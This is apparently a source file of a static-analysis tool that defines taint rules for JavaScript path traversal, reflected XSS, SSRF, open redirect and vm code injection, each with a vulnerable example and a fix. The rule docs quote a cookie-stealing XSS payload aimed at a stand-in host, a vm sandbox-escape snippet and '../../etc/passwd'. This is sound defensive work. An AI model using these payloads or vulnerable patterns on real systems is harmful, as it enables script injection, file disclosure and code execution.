"""JavaScript / TypeScript rules that follow untrusted data to a sink: path traversal, reflected XSS,
SSRF, open redirect and ``vm`` code injection.

Each query selects candidate sinks by shape and name; the check asks the generic taint engine
(``reviewlab.engine.taint.generic``) whether the value the sink receives comes from the request
(``req.query``, ``req.body``, ``ctx.params``, NestJS ``@Query()``...) or, in the browser, from the page
URL (``location.*``, ``document.referrer``, ``window.name``). Findings carry the flow from the source.
Sinks that syntactic rules already cover (``eval``, ``exec``, SQL, ``innerHTML``) stay in the
``javascript`` pack, which attaches the same flows.
"""

from __future__ import annotations

import re
from collections.abc import Iterable

from reviewlab.engine.model import Category, Confidence, Severity
from reviewlab.engine.rules.base import Captures, FileContext, Hit, Rule, RuleDocs, first
from reviewlab.engine.rules.common import JAVASCRIPT, Node, enclosing_function, local_values
from reviewlab.engine.rules.flowhelpers import cwe, flow_hit, names
from reviewlab.engine.taint import generic as taint

LANGS = ("javascript",)
OWASP_INJECTION = "https://owasp.org/Top10/A03_2021-Injection/"


def _call_parts(captures: Captures) -> tuple[Node | None, Node | None, list[Node]]:
    call, fn, args = first(captures, "call"), first(captures, "fn"), first(captures, "args")
    return call, fn, [a for a in args.named_children if "comment" not in a.type] if args is not None else []


# --- JS-S011 path traversal ----------------------------------------------------------------------

_FS_ONE_PATH = (
    "readFile",
    "readFileSync",
    "createReadStream",
    "writeFile",
    "writeFileSync",
    "appendFile",
    "appendFileSync",
    "createWriteStream",
    "unlink",
    "unlinkSync",
    "rm",
    "rmSync",
    "rmdir",
    "rmdirSync",
    "readdir",
    "readdirSync",
    "open",
    "openSync",
    "mkdir",
    "mkdirSync",
    "truncate",
    "truncateSync",
)
_FS_TWO_PATHS = ("copyFile", "copyFileSync", "rename", "renameSync", "symlink", "symlinkSync", "cp", "cpSync")
_FS_RECEIVER = re.compile(r"^(?:fs|fsp|fse|fsPromises|fsExtra|promises|fs\.promises|require\(\s*[\"'](?:node:)?fs)")
_FS_IMPORT = re.compile(rb"""(?:require\(\s*|from\s+)["'](?:node:)?fs(?:/promises)?["']""")


def _check_path(rule: Rule, captures: Captures, ctx: FileContext) -> Iterable[Hit]:
    call, fn, args = _call_parts(captures)
    if call is None or fn is None or not args:
        return
    method = ctx.text(fn)
    receiver = first(captures, "obj")
    if method in ("sendFile", "download"):
        if len(args) > 1 and args[1].type == "object" and "root" in ctx.text(args[1]):
            return  # `res.sendFile(name, { root })` refuses paths that leave the root
        label = f"res.{method}"
    elif receiver is not None:
        if not _FS_RECEIVER.match(ctx.text(receiver)):
            return
        label = f"{ctx.text(receiver)}.{method}"
    elif _FS_IMPORT.search(ctx.source):
        label = method
    else:
        return
    paths = args[:2] if method in _FS_TWO_PATHS else args[:1]
    hit = flow_hit(call, paths, ctx, taint.PATH, label, "a file path")
    if hit is not None:
        yield hit


PATH_TRAVERSAL = Rule(
    id="JS-S011",
    title="Path traversal: file path from the request",
    category=Category.SECURITY,
    severity=Severity.HIGH,
    confidence=Confidence.MEDIUM,
    cwe=22,
    languages=LANGS,
    message="A file path built from request data reaches a file operation; `../` in it escapes the directory.",
    docs=RuleDocs(
        what="Follows request data (`req.params`, `req.query`, `req.body`, Koa's `ctx.params`, NestJS `@Param()`) "
        "through assignments, string building, arrays and same-file helpers, and flags the file operations "
        "of `fs` / `fs/promises` / fs-extra that receive it (`readFile`, `createReadStream`, `writeFile`, "
        "`unlink`, `rm`, `readdir`, `copyFile`, `rename`...) and Express's `res.sendFile` / `res.download` "
        "without a `root` option. `path.basename`, `parseInt`, a containment check "
        "(`if (!full.startsWith(BASE)) return`) or an allowlist test (`if (!FILES.includes(name)) return`) "
        "stop the flow.",
        why="A name such as `../../etc/passwd` or an absolute path makes the server read, overwrite or delete "
        "files outside the directory it meant to serve.",
        example='app.get("/files/:name", (req, res) => {\n'
        '  res.send(fs.readFileSync(path.join("/srv/files", req.params.name)));\n});',
        use_instead='app.get("/files/:name", (req, res) => {\n'
        '  res.sendFile(req.params.name, { root: "/srv/files" });\n});',
    ),
    query=f"""
(call_expression
  function: (member_expression object: (_) @obj property: (property_identifier) @fn)
  arguments: (arguments) @args
  (#any-of? @fn {names(*_FS_ONE_PATH, *_FS_TWO_PATHS, "sendFile", "download")})) @call
(call_expression
  function: (identifier) @fn
  arguments: (arguments) @args
  (#any-of? @fn {names(*_FS_ONE_PATH, *_FS_TWO_PATHS)})) @call
""",
    check=_check_path,
    references=(
        cwe(22),
        "https://owasp.org/www-community/attacks/Path_Traversal",
        "https://expressjs.com/en/api.html#res.sendFile",
    ),
)


# --- JS-S012 reflected XSS -----------------------------------------------------------------------

_NOT_HTML = re.compile(r"text/plain|application/json|\.type\(\s*[\"'](?:json|text|txt)[\"']")
_RESPONSES = frozenset({"res", "response", "resp"})


_PARSED = frozenset({"body", "query", "params", "cookies", "signedCookies", "headers", "files"})


def _is_object(value: Node, ctx: FileContext) -> bool:
    """An object or array literal (sent as JSON), also through a local variable, or a parsed request part
    sent whole (``res.send(req.body)``)."""
    if value.type in ("object", "array"):
        return True
    if value.type == "member_expression":
        prop = value.child_by_field_name("property")
        obj = value.child_by_field_name("object")
        return obj is not None and obj.type == "identifier" and prop is not None and ctx.text(prop) in _PARSED
    if value.type == "identifier":
        values = local_values(JAVASCRIPT, value, ctx)
        return bool(values) and all(v is not None and v.type in ("object", "array") for v in values or ())
    return False


def _check_reflected(rule: Rule, captures: Captures, ctx: FileContext) -> Iterable[Hit]:
    call, fn, args = _call_parts(captures)
    receiver = first(captures, "obj")
    if call is None or fn is None or receiver is None or not args or ctx.text(receiver) not in _RESPONSES:
        return
    body = args[0]
    if _is_object(body, ctx):
        return
    function = enclosing_function(JAVASCRIPT, call, ctx)
    if function is not None and _NOT_HTML.search(ctx.text(function)):
        return  # the handler answers plain text or JSON
    hit = flow_hit(call, [body], ctx, taint.HTML, f"res.{ctx.text(fn)}", "a response body")
    if hit is not None:
        yield hit


REFLECTED_XSS = Rule(
    id="JS-S012",
    title="Reflected XSS: request data in an HTML response",
    category=Category.SECURITY,
    severity=Severity.HIGH,
    confidence=Confidence.MEDIUM,
    cwe=79,
    languages=LANGS,
    message="Request data is written into the response unescaped; the browser runs script it contains.",
    docs=RuleDocs(
        what="Follows request data to Express / Node `res.send`, `res.write` and `res.end`. Values escaped with "
        "`escapeHtml` / `he.encode` / `DOMPurify.sanitize` (or `encodeURIComponent`), numbers (`parseInt`, "
        "`Number`), object and array literals and whole parsed request parts (`res.send(req.body)`: sent as "
        "JSON), and handlers that set a `text/plain` or JSON content type are not flagged.",
        why="`res.send` with a string answers `text/html`: a parameter such as "
        "`<script>fetch('//evil.example?c='+document.cookie)</script>` echoed into the page runs in the site's "
        "origin for whoever follows the attacker's link.",
        example='app.get("/hello", (req, res) => {\n  res.send(`<h1>Hello ${req.query.name}</h1>`);\n});',
        use_instead='const escapeHtml = require("escape-html");\n\napp.get("/hello", (req, res) => {\n'
        "  res.send(`<h1>Hello ${escapeHtml(req.query.name)}</h1>`);\n});",
    ),
    query="""
(call_expression
  function: (member_expression
    object: [(identifier) @obj (call_expression function: (member_expression object: (identifier) @obj))]
    property: (property_identifier) @fn)
  arguments: (arguments) @args
  (#any-of? @fn "send" "write" "end")) @call
""",
    check=_check_reflected,
    references=(
        cwe(79),
        "https://cheatsheetseries.owasp.org/cheatsheets/Cross_Site_Scripting_Prevention_Cheat_Sheet.html",
        "https://expressjs.com/en/api.html#res.send",
    ),
)


# --- JS-S013 SSRF --------------------------------------------------------------------------------

_HTTP_CLIENTS = frozenset({"axios", "got", "superagent", "needle", "http", "https", "ky", "undici"})
_HTTP_METHODS = ("get", "post", "put", "patch", "delete", "head", "options", "request", "stream", "fetch")
_URL_KEYS = frozenset({"url", "uri", "baseURL", "host", "hostname", "href", "origin"})


def _url_values(arg: Node, ctx: FileContext) -> list[Node]:
    """The URL a client call receives: the argument, or the URL fields of an options object."""
    if arg.type != "object":
        return [arg]
    found: list[Node] = []
    for child in arg.named_children:
        if child.type == "pair":
            key, value = child.child_by_field_name("key"), child.child_by_field_name("value")
            if key is not None and value is not None and ctx.text(key).strip("\"'") in _URL_KEYS:
                found.append(value)
        elif child.type == "shorthand_property_identifier" and ctx.text(child) in _URL_KEYS:
            found.append(child)
    return found


def _server_side(found: taint.Taint) -> bool:
    """Request data, not the browser's own URL: a page fetching from its ``location`` forges no server request."""
    return not found.source.startswith(("location", "document.", "window."))


def _check_ssrf(rule: Rule, captures: Captures, ctx: FileContext) -> Iterable[Hit]:
    call, fn, args = _call_parts(captures)
    if call is None or fn is None or not args:
        return
    receiver = first(captures, "obj")
    if receiver is not None:
        if ctx.text(receiver) not in _HTTP_CLIENTS:
            return
        label = f"{ctx.text(receiver)}.{ctx.text(fn)}"
    else:
        label = ctx.text(fn)
    hit = flow_hit(call, _url_values(args[0], ctx), ctx, taint.URL, label, "a URL", accept=_server_side)
    if hit is not None:
        yield hit


SSRF = Rule(
    id="JS-S013",
    title="Server-side request forgery: URL from the request",
    category=Category.SECURITY,
    severity=Severity.HIGH,
    confidence=Confidence.MEDIUM,
    cwe=918,
    languages=LANGS,
    message="A URL built from request data reaches an HTTP client; the server can be made to call any host.",
    docs=RuleDocs(
        what="Follows request data to `fetch`, `axios(...)` / `axios.get/post/...` (also an options object's "
        "`url` / `baseURL`), `got`, `superagent`, `needle` and Node's `http(s).get/request`. A URL whose scheme "
        'and host are a literal prefix (`"https://api.example.com/items/" + id`, or a path such as `/api/`) is '
        "not flagged: the input only picks a path. An allowlist check (`if (!ALLOWED.includes(url)) return`) "
        'or a prefix check (`url.startsWith(ORIGIN + "/")`) stops the flow. A page fetching from its own '
        "`location` is not reported: that request leaves the user's browser, not the server.",
        why="A server that fetches any URL a client names can be pointed at internal services, cloud metadata "
        "endpoints (`169.254.169.254`) and admin interfaces that the client cannot reach itself.",
        example='app.post("/preview", async (req, res) => {\n'
        "  const page = await fetch(req.body.url);\n  res.send(await page.text());\n});",
        use_instead='app.post("/preview", async (req, res) => {\n'
        "  const url = new URL(req.body.url);\n"
        "  if (!ALLOWED_HOSTS.includes(url.hostname)) return res.sendStatus(400);\n"
        "  const page = await fetch(url);\n  res.send(await page.text());\n});",
    ),
    query=f"""
(call_expression
  function: (identifier) @fn
  arguments: (arguments) @args
  (#any-of? @fn "fetch" "axios" "got" "nodeFetch" "needle" "superagent" "ky")) @call
(call_expression
  function: (member_expression object: (identifier) @obj property: (property_identifier) @fn)
  arguments: (arguments) @args
  (#any-of? @fn {names(*_HTTP_METHODS)})) @call
""",
    check=_check_ssrf,
    references=(
        cwe(918),
        "https://owasp.org/Top10/A10_2021-Server-Side_Request_Forgery_%28SSRF%29/",
        "https://cheatsheetseries.owasp.org/cheatsheets/Server_Side_Request_Forgery_Prevention_Cheat_Sheet.html",
    ),
)


# --- JS-S014 open redirect -----------------------------------------------------------------------

_REDIRECTORS = frozenset({"res", "response", "resp", "ctx", "reply"})


def _check_redirect(rule: Rule, captures: Captures, ctx: FileContext) -> Iterable[Hit]:
    sink, value = first(captures, "sink"), first(captures, "value")
    if sink is None or value is None:
        return
    receiver, fn = first(captures, "obj"), first(captures, "fn")
    if sink.type == "call_expression":
        args = first(captures, "args")
        if receiver is None or fn is None or args is None or not args.named_children:
            return
        name = ctx.text(fn)
        if name == "redirect" and ctx.text(receiver) not in _REDIRECTORS:
            return
        if name in ("assign", "replace") and not ctx.text(receiver).endswith("location"):
            return
        value = args.named_children[-1]  # res.redirect(301, url)
        label = f"{ctx.text(receiver)}.{name}"
    else:
        label = ctx.text(sink.child_by_field_name("left") or sink)
    hit = flow_hit(sink, [value], ctx, taint.REDIRECT, label, "a redirect target")
    if hit is not None:
        yield hit


OPEN_REDIRECT = Rule(
    id="JS-S014",
    title="Open redirect: redirect target from the request",
    category=Category.SECURITY,
    severity=Severity.MEDIUM,
    confidence=Confidence.MEDIUM,
    cwe=601,
    languages=LANGS,
    message="The redirect target comes from the request; attackers can send users to any site from yours.",
    docs=RuleDocs(
        what="Follows request data to Express / Koa `res.redirect(...)` / `ctx.redirect(...)`, and data from the "
        "page URL (`location.hash`, `URLSearchParams(location.search)`...) to `location = ...`, "
        "`location.href = ...` and `location.assign/replace(...)`. A target with a literal scheme and host, or "
        'a literal same-site path (`"/account/" + id`), and an allowlist check stop the flow.',
        why="A link on your domain that forwards to an attacker's page lends it your credibility (phishing), and "
        "can leak tokens carried in the URL; in the browser a `javascript:` target runs script.",
        example='app.get("/login", (req, res) => {\n  // ...\n  res.redirect(req.query.next);\n});',
        use_instead='app.get("/login", (req, res) => {\n  // ...\n'
        '  const next = ALLOWED_PATHS.includes(req.query.next) ? req.query.next : "/";\n  res.redirect(next);\n});',
    ),
    query="""
(call_expression
  function: (member_expression object: (_) @obj property: (property_identifier) @fn)
  arguments: (arguments) @args @value
  (#any-of? @fn "redirect" "assign" "replace")) @sink
(assignment_expression
  left: (member_expression object: (identifier) @win property: (property_identifier) @prop)
  right: (_) @value
  (#any-of? @win "window" "document" "self" "top")
  (#eq? @prop "location")) @sink
(assignment_expression
  left: (member_expression object: (_) @loc property: (property_identifier) @prop)
  right: (_) @value
  (#match? @loc "(^|\\\\.)location$")
  (#eq? @prop "href")) @sink
(assignment_expression
  left: (identifier) @prop
  right: (_) @value
  (#eq? @prop "location")) @sink
""",
    check=_check_redirect,
    references=(
        cwe(601),
        "https://cheatsheetseries.owasp.org/cheatsheets/Unvalidated_Redirects_and_Forwards_Cheat_Sheet.html",
    ),
)


# --- JS-S015 vm code injection -------------------------------------------------------------------

_VM_FUNCTIONS = ("runInNewContext", "runInContext", "runInThisContext", "compileFunction", "Script")


def _check_vm(rule: Rule, captures: Captures, ctx: FileContext) -> Iterable[Hit]:
    call, fn, args = _call_parts(captures)
    if call is None or fn is None or not args:
        return
    receiver = first(captures, "obj")
    if receiver is None and not re.search(rb"""(?:require\(\s*|from\s+)["'](?:node:)?vm["']""", ctx.source):
        return
    label = f"vm.{ctx.text(fn)}"
    hit = flow_hit(call, [args[0]], ctx, taint.CODE, label, "code")
    if hit is not None:
        yield hit


VM_CODE = Rule(
    id="JS-S015",
    title="Code injection through the vm module",
    category=Category.SECURITY,
    severity=Severity.HIGH,
    confidence=Confidence.MEDIUM,
    cwe=94,
    languages=LANGS,
    message="Request data is compiled as code by the `vm` module; `vm` is not a sandbox.",
    docs=RuleDocs(
        what="Follows request data (and `process.argv` / `process.env`) to `vm.runInNewContext`, "
        "`vm.runInContext`, `vm.runInThisContext`, `vm.compileFunction` and `new vm.Script` (also when "
        "imported by name from `vm`). Constant code with data passed in the context object is not flagged.",
        why="Node's `vm` runs the code with access to the host through the prototype chain "
        '(`this.constructor.constructor("return process")()`): it is not a security boundary, so '
        "evaluating request data in it is remote code execution.",
        example='const vm = require("vm");\n\napp.post("/calc", (req, res) => {\n'
        "  res.json(vm.runInNewContext(req.body.formula, { price: 10 }));\n});",
        use_instead='const { Parser } = require("expr-eval");\n\napp.post("/calc", (req, res) => {\n'
        "  res.json(Parser.evaluate(req.body.formula, { price: 10 }));  // a real expression language\n});",
    ),
    query=f"""
(call_expression
  function: (member_expression object: (identifier) @obj property: (property_identifier) @fn)
  arguments: (arguments) @args
  (#eq? @obj "vm")
  (#any-of? @fn {names(*_VM_FUNCTIONS)})) @call
(new_expression
  constructor: (member_expression object: (identifier) @obj property: (property_identifier) @fn)
  arguments: (arguments) @args
  (#eq? @obj "vm")
  (#eq? @fn "Script")) @call
(call_expression
  function: (identifier) @fn
  arguments: (arguments) @args
  (#any-of? @fn {names(*_VM_FUNCTIONS)})) @call
(new_expression
  constructor: (identifier) @fn
  arguments: (arguments) @args
  (#eq? @fn "Script")) @call
""",
    check=_check_vm,
    references=(
        cwe(94),
        "https://nodejs.org/api/vm.html#vm-executing-javascript",
        OWASP_INJECTION,
    ),
)


RULES: tuple[Rule, ...] = (PATH_TRAVERSAL, REFLECTED_XSS, SSRF, OPEN_REDIRECT, VM_CODE)
